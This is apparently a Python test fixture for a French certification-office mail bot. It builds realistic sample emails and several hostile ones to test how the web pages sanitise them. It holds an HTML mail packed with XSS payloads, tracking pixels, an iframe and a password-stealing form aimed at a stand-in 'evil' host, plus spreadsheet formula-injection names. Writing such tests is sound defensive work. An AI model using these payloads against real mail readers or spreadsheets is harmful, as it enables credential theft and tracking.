"""Mails written for the web tests: a realistic working day of both inboxes, plus hostile ones.

Every mail is built here (nothing copied from elsewhere); ``seed`` files them through
the bot's real pipeline so that the pages show exactly what ``intake run`` stores.
"""

from __future__ import annotations

import io
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from typing import Any

ADDRESSES = {
    "accueil": "accueil@union-prof.asso.fr",
    "certification": "certification@institutquatredix.fr",
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A 1x1 transparent PNG (the inline "logo" of the hostile mail).
PIXEL_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
EVIL_HOST = "tracker.evil.example"


@dataclass(frozen=True)
class Sample:
    name: str
    role: str
    raw: bytes
    # When the bot received it (the case's times are set to this after filing).
    received: datetime | None = None


def mail(
    sender: str,
    subject: str,
    body: str,
    *,
    role: str = "accueil",
    when: datetime,
    message_id: str,
    html: str | None = None,
    attachments: list[tuple[str, str, bytes]] = (),  # type: ignore[assignment]
    inline: list[tuple[str, str, bytes, str]] = (),  # type: ignore[assignment]
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = ADDRESSES[role]
    msg["Subject"] = subject
    msg["Date"] = format_datetime(when)
    msg["Message-ID"] = message_id
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
        if inline:
            html_part = msg.get_payload()[1]
            for name, ctype, data, cid in inline:
                maintype, subtype = ctype.split("/", 1)
                html_part.add_related(
                    data, maintype=maintype, subtype=subtype, cid=f"<{cid}>", filename=name
                )
    for name, ctype, data in attachments:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def pdf(lines: list[str]) -> bytes:
    """A one-page PDF holding ``lines`` (reportlab)."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    document = canvas.Canvas(buffer)
    for index, line in enumerate(lines):
        document.drawString(72, 760 - 18 * index, line)
    document.save()
    return buffer.getvalue()


def certificate() -> bytes:
    return pdf(
        [
            "CERTIFICAT MEDICAL",
            "Je soussigné, Docteur Anne Lefèvre, certifie avoir examiné Mme Claire Martin",
            "et que son état de santé nécessite un arrêt de travail du 2 au 16 juin 2025.",
            "Certificat médical établi à la demande de l'intéressée et remis en main propre.",
        ]
    )


def nir(index: int) -> str:
    body = f"2{80 + index % 10:02d}{1 + index % 12:02d}69{index % 1000:03d}{(index * 7) % 1000:03d}"
    return f"{body}{97 - int(body) % 97:02d}"


def spreadsheet(rows: list[list[Any]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Recueil"
    sheet.append(
        ["Organisme", "Branche", "Nom", "Prénom", "NIR", "Date de naissance", "Email", "CQP",
         "Bloc(s)", "Certifiable à partir du", "Redoublant"]
    )  # fmt: skip
    for row in rows:
        sheet.append(row)
    # A name typed as "=..." is text in the sender's file (not a formula of theirs).
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# Surnames that a spreadsheet program would run as formulas if exported naively.
FORMULA_NAMES = ['=HYPERLINK("http://evil.example","x")', "+33612345678", "-2+3", "@SUM(A1)"]


def caf_sheet() -> bytes:
    rows: list[list[Any]] = []
    names = ["Bernard", "Petit", "Robert", "Richard", "Durand", "Dubois"] + FORMULA_NAMES
    for index, last in enumerate(names):
        rows.append(
            ["CAF du Rhône", "Famille", last, f"Prénom{index}", nir(index), date(1986, 4, 2),
             None, "GC", "1, 2", date(2025, 6, 1), "Non"]
        )  # fmt: skip
    # One row without NIR (invalid) and one repeat candidate.
    rows.append(["CAF du Rhône", "Famille", "Sansnir", "Léa", None, None, None, "GC", "1",
                 date(2025, 6, 1), "Non"])  # fmt: skip
    rows.append(["CAF du Rhône", "Famille", "Moreau", "Hugo", nir(40), None, None, "COS", "2",
                 date(2025, 6, 1), "Oui"])  # fmt: skip
    return spreadsheet(rows)


HOSTILE_HTML = f"""<html><head><script>alert('head')</script>
<style>body {{ background: url(https://{EVIL_HOST}/css.png) }}</style></head>
<body onload="alert('onload')">
<p>Bonjour, voici ma question sur l'inscription.</p>
<script>alert('xss')</script>
<img src="https://{EVIL_HOST}/pixel.gif?id=42" width="1" height="1">
<img src="x" onerror="alert('onerror')">
<img src="cid:logo@hostile.example" alt="logo">
<a href="javascript:alert('link')">Cliquez ici</a>
<a href="https://www.union-prof.asso.fr/">site officiel</a>
<iframe src="https://{EVIL_HOST}/frame"></iframe>
<form action="https://{EVIL_HOST}/steal"><input name="password"></form>
</body></html>"""


def day(base: datetime, days: int, hour: int = 9) -> datetime:
    return (base - timedelta(days=days)).replace(hour=hour, minute=12, second=0, microsecond=0)


def samples(now: datetime | None = None) -> list[Sample]:
    """A realistic mix of mails over the last days (dates relative to ``now``)."""
    now = now or datetime.now(UTC)
    out = [
        Sample("deferral-medical-pdf", "accueil", mail(
            "Claire Martin <claire.martin@example.fr>",
            "Demande de report d'inscription - raison médicale",
            "Bonjour,\n\nJe suis en arrêt maladie et ne pourrai pas me présenter à l'épreuve "
            "du mois de juin. Je souhaite reporter mon inscription à la session suivante.\n"
            "Vous trouverez ci-joint mon certificat médical.\n\nMon NUC : 2024-012345\n\n"
            "Cordialement,\nClaire Martin\n",
            when=day(now, 3), message_id="<report-martin@example.fr>",
            attachments=[("certificat-medical.pdf", "application/pdf", certificate())],
        ), day(now, 3)),
        Sample("problem-nuc", "accueil", mail(
            "Paul Durand <paul.durand@example.org>",
            "NUC jamais reçu",
            "Bonjour,\n\nJe n'ai jamais reçu mon NUC et je ne peux pas finaliser mon inscription.\n\n"
            "Merci d'avance,\nPaul\n",
            when=day(now, 5), message_id="<nuc-durand@example.org>",
        ), day(now, 5)),
        Sample("problem-password", "accueil", mail(
            "Sophie Bernard <sophie.bernard@example.net>",
            "Mot de passe Certif-UP perdu",
            "Bonjour,\n\nJ'ai perdu mon mot de passe et je n'arrive plus à me connecter à "
            "Certif-UP pour l'épreuve UP-EP2.\n\nSophie Bernard\n8 avenue Jean Jaurès\n"
            "33000 Bordeaux\n06 98 76 54 32\nNUC 2023-004512\n",
            when=day(now, 1), message_id="<mdp-bernard@example.net>",
        ), day(now, 1)),
        Sample("deferral-holiday", "accueil", mail(
            "Marc Petit <marc.petit@example.com>",
            "Annulation inscription",
            "Bonjour,\n\nJe pars en vacances à l'étranger à la date de l'épreuve, je voudrais "
            "annuler mon inscription et être remboursé.\n\nMarc Petit\nNUC 2024-000777\n",
            when=day(now, 8), message_id="<annul-petit@example.com>",
        ), day(now, 8)),
        Sample("spreadsheet-caf", "certification", mail(
            "Service formation CAF <formation@caf-rhone.example.fr>",
            "Tableau de recueil CQP GC - CAF du Rhône",
            "Bonjour,\n\nVeuillez trouver ci-joint le tableau de recueil d'informations pour "
            "la CAF du Rhône.\n\nBien cordialement,\nLe service formation\n",
            role="certification", when=datetime(2025, 3, 10, 10, 0, tzinfo=UTC),
            message_id="<tableau-caf@caf-rhone.example.fr>",
            attachments=[("recueil-caf-rhone.xlsx", XLSX, caf_sheet())],
        ), day(now, 4)),
        Sample("mycertif", "certification", mail(
            "URSSAF formation <formation@urssaf.example.fr>",
            "Accès myCertif impossible",
            "Bonjour,\n\nNous n'arrivons plus à nous connecter à la plateforme myCertif UCANSS : "
            "mot de passe refusé.\n\nCordialement\n",
            role="certification", when=day(now, 2), message_id="<mycertif-urssaf@example.fr>",
        ), day(now, 2)),
        Sample("hostile-html", "accueil", mail(
            "Inconnu <visiteur@hostile.example>",
            "Question sur l'inscription",
            "Bonjour, voici ma question sur l'inscription.\n",
            when=now - timedelta(hours=1), message_id="<hostile@hostile.example>",
            html=HOSTILE_HTML, inline=[("logo.png", "image/png", PIXEL_PNG, "logo@hostile.example")],
        ), now - timedelta(hours=1)),
        Sample("question-dates", "accueil", mail(
            "Julie Moreau <julie.moreau@example.fr>",
            "Dates des épreuves",
            "Bonjour,\n\nPourriez-vous m'indiquer les dates des prochaines épreuves ?\n\n"
            "Merci,\nJulie Moreau\n",
            when=day(now, 12), message_id="<dates-moreau@example.fr>",
        ), day(now, 12)),
    ]  # fmt: skip
    return out


def seed(
    config: Any, engine: Any, files: Any, chosen: list[Sample] | None = None
) -> dict[str, str]:
    """File the samples through the bot's pipeline; their case references by sample name."""
    from intake.pipeline import Pipeline

    pipeline = Pipeline(config, engine, files)
    refs: dict[str, str] = {}
    for sample in chosen or samples():
        mailbox = config.mailbox_for(sample.role)
        outcome = pipeline.process(mailbox, sample.raw, source_key=f"web-{sample.name}")
        assert outcome.case_ref, (sample.name, outcome)
        refs[sample.name] = outcome.case_ref
        if sample.received is not None:
            backdate(engine, outcome.case_ref, sample.received)
    return refs


def backdate(engine: Any, ref: str, when: datetime) -> None:
    """Make a freshly filed case look received at ``when`` (its rows' times moved back)."""
    from sqlmodel import select

    from store import AuditEvent, Message, Reply, session_scope
    from store.queries import case_by_ref

    with session_scope(engine) as session:
        case = case_by_ref(session, ref)
        assert case is not None
        case.created_at = case.updated_at = when
        if case.waiting_since is not None:
            case.waiting_since = when
        for model, column in ((Message, "created_at"), (Reply, "created_at"), (AuditEvent, "at")):
            for row in session.exec(select(model).where(model.case_id == case.id)).all():
                setattr(row, column, when)
